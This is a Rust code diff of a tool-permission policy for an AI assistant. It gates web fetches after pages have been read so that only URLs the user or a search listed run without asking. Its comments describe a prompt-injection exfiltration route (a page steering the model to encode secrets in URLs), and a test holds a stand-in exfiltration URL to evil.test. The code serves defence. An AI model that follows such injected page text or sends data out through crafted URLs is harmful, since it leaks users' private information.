@@ -4,7 +4,7 @@
 //! a short list, and a chat that has read strangers' text asks the person before anything that could carry
 //! something out or plant something for later.
 
-use kai_llm::Message;
+use kai_llm::{Message, ToolCall};
 
 /// Who is there while this runs.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -47,12 +47,16 @@ enum Reach {
     Device,
     /// Speaks to the outside, or runs something.
     Outward,
+    /// Speaks to the outside too, but a task may use it as long as nothing of a stranger's is in its request.
+    Web,
 }
 
 const TABLE: &[(&str, Reach)] = &[
     ("create_calendar_event", Reach::Device),
     ("execute_shell_command", Reach::Outward),
+    (FETCH, Reach::Web),
     ("get_local_time", Reach::Looks),
+    ("get_location_from_ip", Reach::Outward),
     ("memory_forget", Reach::Removes),
     ("memory_learn", Reach::Plants),
     // It only counts, so a run that nobody watches may do it too.
@@ -62,21 +66,60 @@ const TABLE: &[(&str, Reach)] = &[
     ("send_notification", Reach::Device),
     ("set_alarm", Reach::Device),
     ("shell_command", Reach::Outward),
+    (SEARCH, Reach::Web),
 ];
+const FETCH: &str = "fetch_url";
+const SEARCH: &str = "web_search";
 
-/// May `tool` run now?
+/// May this call run now, in a request with that taint and after what `messages` hold?
+///
+/// Web pages do not taint. But a page could ask for an address with something private written into it; so once a page
+/// was read, only an address that a search listed, or that the person wrote, is fetched without asking. Links inside
+/// pages do not count: a page can list one for every letter, and have a secret spelled.
+pub fn judge(kind: RunKind, taint: Taint, messages: &[Message], call: &ToolCall) -> Verdict {
+    let verdict = verdict(kind, taint, &call.name);
+    if verdict != Verdict::Run || call.name != FETCH || !read_the_web(messages) || listed(messages, call) {
+        return verdict;
+    }
+    if kind == RunKind::Chat { Verdict::AskFirst } else { Verdict::Refuse }
+}
+
+fn read_the_web(messages: &[Message]) -> bool {
+    messages
+        .iter()
+        .any(|message| matches!(message, Message::Tool { tool, .. } if tool == FETCH || tool == SEARCH))
+}
+
+/// Does the call name an address exactly as a search result or the person wrote it?
+fn listed(messages: &[Message], call: &ToolCall) -> bool {
+    let arguments: serde_json::Value = serde_json::from_str(&call.arguments).unwrap_or_default();
+    let Some(url) = arguments.get("url").and_then(serde_json::Value::as_str) else { return false };
+    // As the field stands in the result; inside a title or an excerpt its quotes would be escaped.
+    let field = format!("\"url\":{}", serde_json::Value::from(url));
+    messages.iter().any(|message| match message {
+        Message::Tool { tool, result, .. } => tool == SEARCH && result.contains(&field),
+        Message::User { text } => text
+            .split_whitespace()
+            .any(|word| word == url || word.trim_matches(|c| "<>()[]\"'.,;:!?".contains(c)) == url),
+        Message::Assistant { .. } => false,
+    })
+}
+
+/// May `tool` run now, whatever it is called with?
 pub fn verdict(kind: RunKind, taint: Taint, tool: &str) -> Verdict {
     let reach = TABLE.iter().find(|(name, _)| *name == tool).map_or(Reach::Outward, |(_, reach)| *reach);
     match (kind, reach) {
         (_, Reach::Looks) | (RunKind::Chat, Reach::Removes | Reach::Device) => Verdict::Run,
+        (RunKind::Task, Reach::Web) if taint == Taint::Clean => Verdict::Run,
         (RunKind::Heartbeat | RunKind::Task, _) => Verdict::Refuse,
-        (RunKind::Chat, Reach::Plants | Reach::Outward) if taint == Taint::Tainted => Verdict::AskFirst,
-        (RunKind::Chat, Reach::Plants | Reach::Outward) => Verdict::Run,
+        (RunKind::Chat, _) if taint == Taint::Tainted => Verdict::AskFirst,
+        (RunKind::Chat, _) => Verdict::Run,
     }
 }
 
-/// Does anything in the conversation come from strangers? A result of a tool that the table does not know counts
-/// as theirs; a name that a model made up (`exists` says no) brought nothing in.
+/// Does anything in the conversation come from those who can write to the person: SMS, notifications, mail, MCP? A
+/// result of a tool that the table does not know counts as theirs; a name that a model made up (`exists` says no)
+/// brought nothing in. Web pages do not count; see [`judge`].
 pub fn taint(messages: &[Message], exists: impl Fn(&str) -> bool) -> Taint {
     let known = |tool: &str| TABLE.iter().any(|(name, _)| *name == tool);
     let strange =
@@ -85,24 +128,31 @@ pub fn taint(messages: &[Message], exists: impl Fn(&str) -> bool) -> Taint {
 }
 
 /// Is the tool offered to a model in this kind of run?
-pub fn offered(kind: RunKind, tool: &str) -> bool {
-    verdict(kind, Taint::Tainted, tool) != Verdict::Refuse
+pub fn offered(kind: RunKind, taint: Taint, tool: &str) -> bool {
+    verdict(kind, taint, tool) != Verdict::Refuse
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    fn result(tool: &str) -> Message {
+        told(tool, &serde_json::json!({}))
+    }
+
+    fn told(tool: &str, result: &serde_json::Value) -> Message {
+        let call = kai_llm::CallId("1".to_owned());
+        Message::Tool { call, tool: tool.to_owned(), result: result.to_string() }
+    }
+
     #[test]
     fn what_an_unknown_tool_brought_in_taints_the_conversation() {
-        let result = |tool: &str| Message::Tool {
-            call: kai_llm::CallId("1".to_owned()),
-            tool: tool.to_owned(),
-            result: "{}".to_owned(),
-        };
         let said = Message::User { text: "hello".to_owned() };
         let there = |_: &str| true;
         assert_eq!(taint(&[said.clone(), result("get_local_time")], there), Taint::Clean);
+        for web in ["web_search", "fetch_url", "get_location_from_ip"] {
+            assert_eq!(taint(&[said.clone(), result(web)], there), Taint::Clean, "{web}");
+        }
         assert_eq!(taint(&[said.clone(), result("made_up")], |_| false), Taint::Clean);
         assert_eq!(taint(&[said, result("get_local_time"), result("something_new")], there), Taint::Tainted);
     }
@@ -122,6 +172,15 @@ mod tests {
             ("memory_forget", Chat, Run, Run),
             ("memory_forget", Heartbeat, Refuse, Refuse),
             ("memory_forget", Task, Refuse, Refuse),
+            ("web_search", Chat, Run, AskFirst),
+            ("web_search", Heartbeat, Refuse, Refuse),
+            ("web_search", Task, Run, Refuse),
+            ("fetch_url", Chat, Run, AskFirst),
+            ("fetch_url", Heartbeat, Refuse, Refuse),
+            ("fetch_url", Task, Run, Refuse),
+            ("get_location_from_ip", Chat, Run, AskFirst),
+            ("get_location_from_ip", Heartbeat, Refuse, Refuse),
+            ("get_location_from_ip", Task, Refuse, Refuse),
             ("memory_learn", Chat, Run, AskFirst),
             ("memory_learn", Heartbeat, Refuse, Refuse),
             ("memory_reinforce", Chat, Run, Run),
@@ -150,6 +209,46 @@ mod tests {
         ] {
             assert_eq!(verdict(kind, Clean, tool), clean, "{tool} in {kind:?}");
             assert_eq!(verdict(kind, Tainted, tool), tainted, "{tool} in {kind:?}, tainted");
+        }
+    }
+    #[test]
+    fn after_a_page_only_listed_addresses_are_fetched_without_asking() {
+        use RunKind::{Chat, Heartbeat, Task};
+        use Verdict::{AskFirst, Refuse, Run};
+        let said = Message::User { text: "See (https://mine.test/a) or HTTPS://B.test.".to_owned() };
+        let hit = serde_json::json!({"title": "t", "url": "https://hit.test/?a=\"1\"", "snippet": "\"url\":\"https://no.test/\""});
+        let found = told("web_search", &serde_json::json!({"results": [hit], "untrusted": true}));
+        let page =
+            told("fetch_url", &serde_json::json!({"url": "https://was.test/", "text": "https://link.test/"}));
+        let (fresh, web) = (vec![said.clone()], vec![said.clone(), found, page]);
+        let strange = [web.clone(), vec![result("something_new")]].concat();
+        for (name, messages, tool, url, chat, task) in [
+            ("nothing read yet", &fresh, "fetch_url", "https://new.test/", Run, Run),
+            ("made up after a page", &web, "fetch_url", "https://evil.test/?d=secret", AskFirst, Refuse),
+            ("listed by a search", &web, "fetch_url", "https://hit.test/?a=\"1\"", Run, Run),
+            ("listed, and more", &web, "fetch_url", "https://hit.test/?a=\"1\"&b", AskFirst, Refuse),
+            ("in a result's excerpt", &web, "fetch_url", "https://no.test/", AskFirst, Refuse),
+            ("a link in a page", &web, "fetch_url", "https://link.test/", AskFirst, Refuse),
+            ("the person wrote it", &web, "fetch_url", "https://mine.test/a", Run, Run),
+            ("a part of what the person wrote", &web, "fetch_url", "https://mine.test/", AskFirst, Refuse),
+            ("no address at all", &web, "fetch_url", "", AskFirst, Refuse),
+            ("a search", &web, "web_search", "", Run, Run),
+            ("a memory", &web, "memory_store", "", Run, Refuse),
+            ("a memory after a stranger", &strange, "memory_store", "", AskFirst, Refuse),
+            ("listed, but after a stranger", &strange, "fetch_url", "https://mine.test/a", AskFirst, Refuse),
+            ("a search after a stranger", &strange, "web_search", "", AskFirst, Refuse),
+        ] {
+            let arguments = serde_json::json!({"url": url}).to_string();
+            let call = ToolCall {
+                id: kai_llm::CallId("2".to_owned()),
+                name: tool.to_owned(),
+                arguments,
+                signature: None,
+            };
+            let taint = taint(messages, |_| true);
+            assert_eq!(judge(Chat, taint, messages, &call), chat, "{name}");
+            assert_eq!(judge(Task, taint, messages, &call), task, "{name}, in a task");
+            assert_eq!(judge(Heartbeat, taint, messages, &call), Refuse, "{name}, in a heartbeat");
         }
     }
 }
